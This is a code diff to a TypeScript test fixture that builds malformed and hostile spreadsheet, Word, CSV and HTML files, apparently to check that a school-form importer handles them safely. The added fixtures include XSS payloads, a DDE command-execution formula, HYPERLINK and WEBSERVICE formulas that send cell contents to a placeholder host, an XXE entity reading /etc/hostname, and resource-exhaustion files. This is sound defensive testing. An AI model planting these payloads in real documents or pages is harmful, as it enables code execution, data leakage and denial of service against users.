@@ -3,9 +3,19 @@
  */
 import { deflateSync, strToU8, zipSync } from 'fflate';
 
+import { utils } from '@e965/xlsx';
+import type { WorkSheet } from '@e965/xlsx';
+
+import { record, writeBiff } from '../import/write-biff';
 import { packageOf } from './write-ooxml';
 
-export type BadFile = { file: string; about: string; make: () => Uint8Array };
+export type BadFile = {
+	file: string;
+	about: string;
+	make: () => Uint8Array;
+	/** It holds a form all the same: read within the same bounds, nothing of it executed, fetched or computed. */
+	isRead?: true;
+};
 
 const DAY = new Date( 2021, 0, 12, 8 );
 const row = '<w:tr><w:tc><w:p><w:r><w:t>Số học sinh chia theo hạnh kiểm</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>407</w:t></w:r></w:p></w:tc></w:tr>';
@@ -90,16 +100,82 @@ function utf16( text: string, isLittle = true ): Uint8Array {
 	return bytes;
 }
 
+/** A small filled form; `odd` are texts of its further rows. */
+const formLines = ( odd: string[] ): ( string | number )[][] => [
+	[ 'STT', 'Nội dung', 'Tổng số', 'Lớp 6', 'Lớp 7', 'Lớp 8', 'Lớp 9' ],
+	[ 'I', 'Số học sinh chia theo hạnh kiểm', 407, 104, 111, 97, 95 ],
+	[ '1', 'Tốt', 300, 80, 80, 70, 70 ],
+	[ '2', 'Khá', 100, 20, 30, 25, 25 ],
+	...odd.map( ( text ) => [ '3', text, text, 1, 2, 3, 4 ] ),
+];
+const QUIET: string[] = [];
+const MARKUP = [ '<img src="http://192.0.2.1/x.png" onerror="alert(1)">', '<script>alert(1)</script>', '"><svg onload=alert(1)>' ];
+const FORMULAS = [ '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3' ];
+const xmlText = ( text: string ): string => text.replace( /&/g, '&amp;' ).replace( /</g, '&lt;' ).replace( />/g, '&gt;' );
+
+const formRows = ( odd: string[] ): string =>
+	formLines( odd )
+		.map( ( line, index ) => {
+			const cells = line.map( ( text, column ) => {
+				const at = `${ String.fromCharCode( 65 + column ) }${ index + 1 }`;
+				return typeof text === 'number' ? `<c r="${ at }"><v>${ text }</v></c>` : `<c r="${ at }" t="inlineStr"><is><t>${ xmlText( text ) }</t></is></c>`;
+			} );
+			return `<row r="${ index + 1 }">${ cells.join( '' ) }</row>`;
+		} )
+		.join( '' );
+const csv = ( odd: string[] ): string =>
+	formLines( odd )
+		.map( ( line ) => line.map( ( text ) => `"${ String( text ).replace( /"/g, '""' ) }"` ).join( ';' ) )
+		.join( '\r\n' );
+const page = ( odd: string[] ): string =>
+	`<html><head><base href="http://192.0.2.1/"><link rel=stylesheet href="http://192.0.2.1/x.css"><style>@import "http://192.0.2.1/y.css"; td{background:url(http://192.0.2.1/z.png)}</style><script>document.body.textContent = '';</script></head><body onload="alert(1)"><iframe src="http://192.0.2.1/"></iframe><img src="http://192.0.2.1/i.png"><table>${ formLines( odd )
+		.map( ( line ) => `<tr>${ line.map( ( text ) => `<td>${ xmlText( String( text ) ) }</td>` ).join( '' ) }</tr>` )
+		.join( '' ) }</table></body></html>`;
+
+const filled = ( rows: number, columns: number ) =>
+	utils.aoa_to_sheet( Array.from( { length: rows }, ( _, index ) => Array.from( { length: columns }, () => index ) ) );
+const oldSheet = [ { name: 'S', sheet: utils.aoa_to_sheet( formLines( QUIET ) ) } ];
+
+function claiming(): WorkSheet {
+	const sheet = utils.aoa_to_sheet( formLines( QUIET ) );
+	sheet[ '!rows' ] = Array.from( { length: 65_536 }, ( _, index ) => ( { hidden: index > 20 } ) );
+	sheet[ '!cols' ] = Array.from( { length: 256 }, ( _, index ) => ( { hidden: index > 8 } ) );
+	return sheet;
+}
+
+/** The first sectors of the table of sectors lead to each other. */
+function ring(): Uint8Array {
+	const file = writeBiff( [ { name: 'S', sheet: filled( 300, 8 ) } ] );
+	const view = new DataView( file.buffer, file.byteOffset, file.length );
+	const table = ( view.getUint32( 76, true ) + 1 ) * 512;
+	for ( let index = 0; index < 128; index++ ) {
+		if ( view.getUint32( table + index * 4, true ) < 0xfffffff0 ) {
+			view.setUint32( table + index * 4, index === 3 ? 4 : 3, true );
+		}
+	}
+	return file;
+}
+
+function openDocument( kind: string ): Uint8Array {
+	return zipSync(
+		{
+			mimetype: [ strToU8( `application/vnd.oasis.opendocument.${ kind }` ), { level: 0 } ],
+			'content.xml': strToU8( '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>' ),
+		},
+		{ mtime: DAY }
+	);
+}
+
 const ENTITIES = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n';
 
-function workbook( cells: string, more: Record< string, string > = {} ): Uint8Array {
+function workbook( cells: string, more: Record< string, string > = {}, before = '' ): Uint8Array {
 	const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
 	const parts: Record< string, string > = {
 		'[Content_Types].xml': `${ head }<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
 		'_rels/.rels': `${ head }<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
 		'xl/_rels/workbook.xml.rels': `${ head }<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
 		'xl/workbook.xml': `${ head }<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-		'xl/worksheets/sheet1.xml': `${ head }<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${ cells }</sheetData></worksheet>`,
+		'xl/worksheets/sheet1.xml': `${ head }<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${ before }<sheetData>${ cells }</sheetData></worksheet>`,
 		...more,
 	};
 	return zipSync(
@@ -123,8 +199,18 @@ export const BAD: BadFile[] = [
 	{ file: 'password.docx', about: 'protected by a password', make: () => compound( [ 'EncryptionInfo', 'EncryptedPackage' ] ) },
 	{ file: 'password.xlsx', about: 'protected by a password', make: () => compound( [ 'EncryptedPackage', 'EncryptionInfo' ] ) },
 	{ file: 'old.doc', about: 'Word 97-2003', make: () => compound( [ 'WordDocument', '1Table' ] ) },
-	{ file: 'old.xls', about: 'Excel 97-2003', make: () => compound( [ 'Workbook' ] ) },
-	{ file: 'old-as-new.xlsx', about: 'Excel 97-2003 under a new name', make: () => compound( [ 'Workbook' ] ) },
+	{ file: 'rtf.doc', about: 'RTF called .doc', make: () => strToU8( '{\\rtf1\\ansi\\trowd 407\\cell\\row}' ) },
+	{ file: 'word-2003.doc', about: 'XML of Word 2003 called .doc', make: () => strToU8( '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>' ) },
+	{ file: 'empty-workbook.xls', about: 'an old workbook without content', make: () => compound( [ 'Workbook' ] ) },
+	{ file: 'password.xls', about: 'old Excel, protected by a password', make: () => writeBiff( oldSheet, { globals: record( 0x2f, [ 1, 0, 1, 0 ] ) } ) },
+	{ file: 'macro.xls', about: 'old Excel with macros', make: () => writeBiff( oldSheet, { streams: { '/_VBA_PROJECT_CUR/VBA/dir': [ 1, 2, 3 ] } } ) },
+	{ file: 'macro-as-new.xlsx', about: 'old Excel with macros under a new name', make: () => writeBiff( oldSheet, { streams: { '/_VBA_PROJECT_CUR/VBA/dir': [ 1, 2, 3 ] } } ) },
+	{ file: 'macro-sheet.xls', about: 'old Excel with a macro sheet', make: () => writeBiff( oldSheet, { globals: record( 0x85, [ 0, 0, 0, 0, 0, 1, 1, 1, 65, 0 ] ) } ) },
+	{ file: 'truncated.xls', about: 'old Excel, cut off in the middle', make: () => writeBiff( oldSheet ).slice( 0, 1600 ) },
+	{ file: 'ring.xls', about: 'old Excel whose sectors lead back to each other', make: ring },
+	{ file: 'cells.xls', about: 'old Excel with 60,000 cells', make: () => writeBiff( [ { name: 'S', sheet: filled( 6000, 10 ) } ] ) },
+	{ file: 'sheet.ods', about: 'LibreOffice', make: () => openDocument( 'spreadsheet' ) },
+	{ file: 'text.odt', about: 'LibreOffice', make: () => openDocument( 'text' ) },
 	{ file: 'truncated.docx', about: 'cut off in the middle', make: () => packageOf( body ).slice( 0, 900 ) },
 	{ file: 'no-directory.docx', about: 'the end of the zip is gone', make: () => packageOf( body ).slice( 0, -60 ) },
 	{ file: 'bomb.docx', about: '600 MB of the same letter', make: () => bomb( 600 ) },
@@ -156,6 +242,25 @@ export const BAD: BadFile[] = [
 	{ file: 'nested.docx', about: 'a zip that holds a Word file', make: () => zipSync( { 'bieu-mau-10.docx': packageOf( body ) }, { mtime: DAY } ) },
 	{ file: 'entities.docx', about: 'an entity that nobody declared', make: () => packageOf( body.replace( '407', '&xxe;' ).replaceAll( '</w:tr>', '' ) ) },
 	{ file: 'deep.docx', about: 'tables in tables, 4,000 deep', make: () => packageOf( '<w:tbl><w:tr><w:tc>'.repeat( 4000 ) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat( 4000 ) ) },
+	{ file: 'million.xlsx', about: 'a million cells', make: () => workbook( '<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c><c><v>4</v></c></row>'.repeat( 250_000 ) ) },
+	{ file: 'million.csv', about: 'a million cells', make: () => strToU8( '1,'.repeat( 49 ).concat( '1\n' ).repeat( 20_000 ) ) },
+	{ file: 'million.html', about: 'a million cells', make: () => strToU8( `<table>${ '<td>1'.repeat( 50 ).concat( '<tr>' ).repeat( 19_000 ) }</table>` ) },
+	{ file: 'list.xlsx', about: '5,000 rows', make: () => workbook( sheetRows( 5000, 8 ) ) },
+	{ file: 'list.csv', about: '5,000 rows', make: () => strToU8( 'Số học sinh chia theo hạnh kiểm;407;104;111;97;95\n'.repeat( 5000 ) ) },
+	{ file: 'list.docx', about: '5,000 rows', make: () => packageOf( `<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>${ row.repeat( 5000 ) }</w:tbl>` ) },
+	{ file: 'list.html', about: '5,000 rows', make: () => strToU8( `<table>${ '<tr><td>Số học sinh chia theo hạnh kiểm<td>407'.repeat( 5000 ) }</table>` ) },
+	{ file: 'entities.html', about: 'a page with entities of its own', make: () => strToU8( `<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${ HTML }` ) },
+	{ file: 'doctype.xls', about: 'XML Spreadsheet 2003 with an external entity', make: () => strToU8( '<?xml version="1.0"?><!DOCTYPE Workbook [<!ENTITY e SYSTEM "file:///etc/hostname">]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>' ) },
+	{ file: 'deep.html', about: 'tables in tables, 100,000 deep', make: () => strToU8( '<table><tr><td>'.repeat( 100_000 ) ) },
+	{ file: 'spans.html', about: 'cells over 65,000 rows and columns each', make: () => strToU8( `<table>${ '<tr>'.concat( '<td rowspan=65000 colspan=65000>1'.repeat( 3 ) ).repeat( 20_000 ) }</table>` ) },
+	{ file: 'open.html', about: '400,000 elements that nothing closes', make: () => strToU8( '<font face=".VnTime">1 '.repeat( 200_000 ) ) },
+	{ file: 'archive.xls', about: 'a web archive called .xls', make: () => strToU8( 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\n' ) },
+	{ file: 'claims.xlsx', about: 'a form on a sheet that claims a million rows and all columns', isRead: true, make: () => workbook( `${ formRows( QUIET ) }<row r="1048576" spans="1:16384" hidden="1"/>`, {}, '<dimension ref="A1:XFD1048576"/><cols><col min="9" max="16384" width="9" hidden="1"/></cols>' ) },
+	{ file: 'claims.xls', about: 'a form on an old sheet that claims all rows and columns', isRead: true, make: () => writeBiff( [ { name: 'S', sheet: claiming() } ] ) },
+	{ file: 'markup.xlsx', about: 'a form with markup and scripts in its labels', isRead: true, make: () => workbook( formRows( MARKUP ) ) },
+	{ file: 'markup.html', about: 'a form on a page with scripts, frames and pictures from elsewhere', isRead: true, make: () => strToU8( page( MARKUP ) ) },
+	{ file: 'formulas.csv', about: 'a form with texts that spreadsheets would compute', isRead: true, make: () => strToU8( csv( FORMULAS ) ) },
+	{ file: 'formulas.xlsx', about: 'a form with formulas that reach out and texts that look like some', isRead: true, make: () => workbook( `${ formRows( FORMULAS ) }<row r="9"><c r="A9" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f></c><c r="B9"><f>HYPERLINK("http://192.0.2.1/","x")</f></c></row>` ) },
 	{ file: 'rows.xlsx', about: 'a merged area over the whole sheet and a cell in its last corner', make: () => workbook( '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' ) },
 ];
 
